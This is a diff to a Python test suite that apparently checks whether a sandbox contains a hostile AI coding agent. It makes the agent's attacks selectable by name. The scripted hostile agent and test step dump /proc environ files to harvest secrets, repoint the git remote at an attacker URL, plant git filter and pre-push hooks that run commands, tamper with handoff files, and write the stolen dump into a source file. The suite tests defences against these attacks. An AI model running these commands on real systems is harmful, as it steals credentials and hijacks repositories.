@@ -93,6 +93,7 @@ class Attack:
 AGENT = r"""
 import glob, os, pathlib, subprocess, sys
 out, evil, marker, handoff = pathlib.Path(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
+attacks = set(sys.argv[5:])
 prompt = sys.stdin.read()
 calls = out / "calls"
 n = int(calls.read_text()) + 1 if calls.exists() else 1
@@ -104,18 +105,19 @@ for f in sorted(set(glob.glob("/proc/[0-9]*/environ")) | {"/proc/%d/environ" % o
         seen.append("== %s\n%s" % (f, open(f, "rb").read().replace(b"\0", b"\n").decode("utf-8", "replace")))
     except OSError as e:
         seen.append("== %s: %s" % (f, e.strerror))
-for f in glob.glob(handoff + "/*/*") or [handoff + "/"]:
+for f in (glob.glob(handoff + "/*/*") or [handoff + "/"]) if "handoff" in attacks else []:
     try:
         with open(f, "a") as h:
             h.write("tampered")
         seen.append("tampered " + f)
     except OSError as e:
         seen.append("cannot tamper %s: %s" % (f, e.strerror))
-r = subprocess.run(["git", "remote", "set-url", "origin", evil], capture_output=True, text=True)
-seen.append("set-url exit %d" % r.returncode)
+if "git" in attacks:
+    r = subprocess.run(["git", "remote", "set-url", "origin", evil], capture_output=True, text=True)
+    seen.append("set-url exit %d" % r.returncode)
 for f, text in ((".git/hooks/pre-push", "#!/bin/sh\ntouch %s\n" % marker),
                 (".git/config", '\n[filter "evil"]\n\tclean = touch %s\n' % marker),
-                (".git/info/attributes", "* filter=evil\n")):
+                (".git/info/attributes", "* filter=evil\n")) if "git" in attacks else ():
     try:
         with open(f, "a") as h:
             h.write(text)
@@ -127,7 +129,7 @@ dump = "\n".join(seen)
 print(dump)
 handler = pathlib.Path("src/server/game/Handlers/ChatHandler.cpp")
 text = handler.read_text()
-if n == 1:
+if n == 1 and "leak" in attacks:
     handler.write_text("// " + dump.replace("\n", "\n// ") + "\n" + text)
 else:
     handler.write_text(text.replace("    SendWhisper(target, text);",
@@ -140,6 +142,7 @@ print("Added a null check for an offline whisper target.")
 # remote, git's config and the handoff, leaves a process behind, and fails the first time it runs (so its
 # log is posted and fed back to the agent), passes the second.
 TEST_STEP = r"""
+cd {workspace}
 for f in /proc/[0-9]*/environ /proc/$PPID/environ; do echo "== $f"; tr '\0' '\n' < "$f"; done
 git remote set-url origin {evil}; echo "set-url exit $?"
 printf '[filter "t"]\n\tclean = touch {marker}\n' >> .git/config; echo "config exit $?"
@@ -151,11 +154,21 @@ echo "test run $n"
 """
 
 
+ALL_ATTACKS = ("handoff", "git", "leak")
+
+
 def configure(
-    stage: Stage, attack: Attack, agent: Path, *, sandbox: str = "auto", max_attempts: int = 3
+    stage: Stage,
+    attack: Attack,
+    agent: Path,
+    *,
+    sandbox: str = "auto",
+    max_attempts: int = 3,
+    attacks: tuple[str, ...] = ALL_ATTACKS,
 ) -> None:
+    """The agent's ``attacks``: tamper with the handoff, with git's files, leak what it saw in its patch."""
     command = [sys.executable, str(agent), str(attack.out), str(attack.evil), str(attack.marker)]
-    command.append(str(attack.handoff))
+    command += [str(attack.handoff), *attacks]
     test = TEST_STEP.format(
         evil=attack.evil,
         marker=attack.marker,
@@ -164,6 +177,7 @@ def configure(
         python=sys.executable,
         leftover=attack.leftover,
         out=attack.out,
+        workspace=stage.checkout.workspace,
     )
     lines = f"command = {json.dumps(command)}\nsandbox_read_only = {json.dumps([str(agent)])}\n"
     lines += f"sandbox_writable = {json.dumps([str(attack.out)])}\nsandbox = {json.dumps(sandbox)}\n"
@@ -218,6 +232,8 @@ def test_phases_hostile_agent_and_test_step_in_the_sandbox_reach_no_secret_and_o
     prompts = attack.prompts()
     assert len(prompts) == 3
     assert "test run 1" in prompts[2]  # the failing test log was fed back...
+    for attempt in ("set-url exit 0", "config exit 0", "handoff exit 0"):  # ...and every attack failed
+        assert attempt not in prompts[2]
     left = what_left(stage) + "\n".join(prompts)
     assert "== /proc/1/environ" in left  # ...and what the attackers dumped was posted...
     assert_no_secret(left)  # ...with no secret value in any comment, PR, prompt or branch
@@ -238,8 +254,8 @@ def test_phases_unsandboxed_test_step_sees_only_the_engine_key_and_its_remote_re
     publish pushes to the repository GitHub reports, not to the workspace's remote."""
     attack = Attack.make(tmp_path)
     agent = tmp_path / "agent.py"
-    agent.write_text(AGENT.replace("if n == 1:", "if False:"), encoding="utf-8")
-    configure(stage, attack, agent, sandbox="none", max_attempts=2)
+    agent.write_text(AGENT, encoding="utf-8")
+    configure(stage, attack, agent, sandbox="none", max_attempts=2, attacks=())
     ws = stage.checkout.workspace
     dumps = attack.out / "test-step.txt"
     # every ancestor's environment, up to init: the work process, and whatever started it
@@ -279,11 +295,11 @@ def test_phases_unsandboxed_planted_filter_and_hook_stop_the_hand_back_and_never
     neither ever runs."""
     attack = Attack.make(tmp_path)
     agent = tmp_path / "agent.py"
-    agent.write_text(AGENT.replace("if n == 1:", "if False:"), encoding="utf-8")
-    configure(stage, attack, agent, sandbox="none", max_attempts=1)
+    agent.write_text(AGENT, encoding="utf-8")
+    configure(stage, attack, agent, sandbox="none", max_attempts=1, attacks=())
     ws = stage.checkout.workspace
     planter = (
-        f"git config filter.evil.clean 'touch {attack.marker}; cat' && echo '* filter=evil' > .git/info/attributes"
+        f"cd {ws} && git config filter.evil.clean 'touch {attack.marker}; cat' && echo '* filter=evil' > .git/info/attributes"
         f" && printf '#!/bin/sh\\ntouch {attack.marker}\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push"
     )
     config = stage.config.read_text(encoding="utf-8")
